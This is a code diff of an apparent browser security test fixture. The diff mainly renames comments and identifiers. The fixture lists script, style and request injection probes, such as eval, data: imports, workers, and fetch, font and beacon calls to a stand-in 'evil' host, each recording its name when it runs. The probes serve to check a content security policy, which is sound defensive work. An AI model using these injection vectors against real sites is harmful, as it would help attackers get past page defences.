@@ -1,10 +1,10 @@
-/** Ways to get a script, a style or a request in; each leaves its name in `window.ran`, or reaches the evil host. */
+/** Injections of scripts, styles and requests. Each adds its name to `window.ran`, or requests it from the evil host. */
 const ran = (name: string) => `parent.ran=(parent.ran||'')+' ${name}'`;
 
-/** A script of the site's own, which nothing in the document vouches for. */
+/** A script of the site's own origin without integrity metadata. */
 export const UNSIGNED = { path: '/assets/unsigned.js', text: ran('unsigned-script') };
 
-/** Markup that somebody managed to put into the document. */
+/** Markup injected into the document. */
 export function markup(evil: string): Readonly<Record<string, string>> {
   const dataPage = (name: string) => `data:text/html,<script>parent.postMessage('${name}','*')</script>`;
   return {
@@ -36,7 +36,7 @@ export function markup(evil: string): Readonly<Record<string, string>> {
   };
 }
 
-/** What a script of ours could be brought to do with somebody's text. Runs as a served file. */
+/** Injections through the DOM APIs of a script. It runs as a served file. */
 export function script(evil: string): string {
   const tries: Readonly<Record<string, string>> = {
     eval: `eval("${ran('eval')}")`,
@@ -54,8 +54,8 @@ export function script(evil: string): string {
     'policy-made': `trustedTypes.createPolicy('mine', { createHTML: (text) => text }); ${ran('policy-made')}`,
     'data-import': `import("data:text/javascript,${encodeURIComponent(ran('data-import').replaceAll('parent', 'window')).replaceAll("'", '%27')}").catch(() => {})`,
     'foreign-import': `import('${evil}/foreign-import').catch(() => {})`,
-    'blob-worker': `new Worker(URL.createObjectURL(new Blob(["postMessage('blob-worker')"]))).onmessage = hear`,
-    'data-worker': `new Worker("data:text/javascript,postMessage('data-worker')").onmessage = hear`,
+    'blob-worker': `new Worker(URL.createObjectURL(new Blob(["postMessage('blob-worker')"]))).onmessage = recordMessage`,
+    'data-worker': `new Worker("data:text/javascript,postMessage('data-worker')").onmessage = recordMessage`,
     'foreign-fetch': `fetch('${evil}/foreign-fetch', { mode: 'no-cors' }).catch(() => {})`,
     'foreign-font': `new FontFace('foreign', 'url(${evil}/foreign-font)').load().catch(() => {})`,
     beacon: `navigator.sendBeacon('${evil}/beacon')`,
@@ -63,11 +63,11 @@ export function script(evil: string): string {
     'style-text': `box.setAttribute('style', 'position:fixed'); if (getComputedStyle(box).position === 'fixed') { ${ran('style-text')} }`,
   };
   return `
-    const hear = ({ data }) => { if (typeof data === 'string') window.ran = (window.ran || '') + ' ' + data; };
-    addEventListener('message', hear);
+    const recordMessage = ({ data }) => { if (typeof data === 'string') window.ran = (window.ran || '') + ' ' + data; };
+    addEventListener('message', recordMessage);
     addEventListener('load', () => {
       for (const [id, name] of [['by-element', 'style-element'], ['by-attribute', 'style-attribute']]) {
-        if (getComputedStyle(document.getElementById(id)).position === 'fixed') hear({ data: name });
+        if (getComputedStyle(document.getElementById(id)).position === 'fixed') recordMessage({ data: name });
       }
       for (const each of document.querySelectorAll('.press')) each.dispatchEvent(new MouseEvent('click', { cancelable: true, bubbles: true }));
       ${Object.values(tries)
@@ -80,8 +80,8 @@ export function script(evil: string): string {
     });`;
 }
 
-/** Names of everything that {@link script} tries. */
-export const SCRIPTED = [
+/** Names of the injections of {@link script}. */
+export const SCRIPTED_NAMES = [
   'eval',
   'new-function',
   'text-timer',
